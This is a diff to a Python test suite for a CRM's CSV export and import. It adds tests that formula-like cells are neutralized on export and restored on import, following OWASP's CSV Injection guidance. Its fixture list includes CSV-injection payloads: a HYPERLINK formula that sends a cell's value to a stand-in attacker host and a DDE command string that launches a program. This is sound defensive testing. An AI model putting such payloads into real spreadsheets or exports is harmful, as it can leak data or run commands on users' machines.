@@ -9,8 +9,11 @@ import io
 import uuid
 from typing import Any
 
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import insert
 
+from crm_domain import csvio
 from crm_domain.csvio import COLUMNS
 from crm_domain.db import Database
 from crm_domain.enums import ImportKind
@@ -27,7 +30,7 @@ def _export(
     assert r.status_code == 200, r.get_json()
     assert r.mimetype == "text/csv"
     assert r.headers["Content-Disposition"] == f'attachment; filename="{kind}.csv"'
-    assert r.is_streamed
+    assert "Content-Length" not in r.headers  # streamed: its length is not known up front
     text = r.get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(text)))
     assert tuple(rows[0]) == COLUMNS[ImportKind(kind)]
@@ -220,3 +223,69 @@ def test_export_import_round_trip_into_the_same_organization(api: ApiClient) -> 
     job = _upload(api, owner, owner.org_id, "contacts", before, on_duplicate="update")
     assert (job["created"], job["updated"]) == (0, 3)
     assert _csv_text(api, owner, "contacts", owner.org_id) == before
+
+
+# --- formulas (OWASP "CSV Injection") ----------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1 555 0100",
+    "-2+3",
+    "@SUM(1+1)",
+    "'=already quoted",  # one quote more on the way out, exactly one less on the way in
+    "'Tis plain text",  # a quote before no formula character: left alone
+]
+
+
+def test_exports_neutralize_formulas_unless_raw_and_import_restores_them(
+    api: ApiClient,
+) -> None:
+    owner = api.register()
+    contacts = {
+        name: api.contact(owner, name=name, email=None, phone="+44 20 7946 0000")
+        for name in FORMULAS
+    }
+    api.deal(owner, contact_id=contacts[FORMULAS[0]]["id"], title="=1+1", amount="10.50")
+
+    rows = {r["name"]: r for r in _export(api, owner, "contacts")}
+    assert set(rows) == {"'" + n if n[0] in "=+-@" or n.startswith("'=") else n for n in FORMULAS}
+    assert all(r["phone"] == "'+44 20 7946 0000" for r in rows.values())
+    [deal] = _export(api, owner, "deals")
+    assert deal["title"] == "'=1+1"
+    assert deal["amount"] == "10.50" and deal["contact_id"] == str(contacts[FORMULAS[0]]["id"])
+
+    raw = {r["name"]: r for r in _export(api, owner, "contacts", raw="true")}
+    assert set(raw) == set(FORMULAS)
+    assert all(r["phone"] == "+44 20 7946 0000" for r in raw.values())
+    assert _export(api, owner, "deals", raw="true")[0]["title"] == "=1+1"
+
+    # the neutralized export goes back in as the original text
+    r = api.post("/organizations", user=owner, json={"name": f"Copy {_tag()}"})
+    assert r.status_code == 201
+    copy = r.get_json()["id"]
+    text = _csv_text(api, owner, "contacts", owner.org_id)
+    job = _upload(api, owner, copy, "contacts", text)
+    assert (job["created"], job["error_rows"]) == (len(FORMULAS), 0), job["errors"]
+    r = api.get("/contacts", user=owner, org=copy, query={"page_size": 100})
+    copied = r.get_json()["items"]
+    assert sorted(c["name"] for c in copied) == sorted(FORMULAS)
+    assert {c["phone"] for c in copied} == {"+44 20 7946 0000"}
+    assert sorted(_csv_text(api, owner, "contacts", copy).splitlines()) == sorted(text.splitlines())
+
+
+@given(st.one_of(st.text(alphabet="'=+-@\t\r a"), st.text()))
+def test_neutralized_text_never_starts_a_formula_and_restores_exactly(text: str) -> None:
+    written = csvio.neutralize(text)
+    assert not written.startswith(csvio.FORMULA_STARTS)
+    assert csvio.restore(written) == text
+    if not text.startswith(("'", *csvio.FORMULA_STARTS)):
+        assert written == text  # everything else is written as it is
+
+
+def test_the_raw_switch_is_documented(api: ApiClient) -> None:
+    spec = api.client.get("/api/v1/openapi.json").get_json()
+    for path in ("/api/v1/contacts/export.csv", "/api/v1/deals/export.csv"):
+        params = {p.get("name"): p for p in spec["paths"][path]["get"]["parameters"]}
+        assert params["raw"]["schema"]["type"] == "boolean"
+        assert "formula" in params["raw"]["description"]
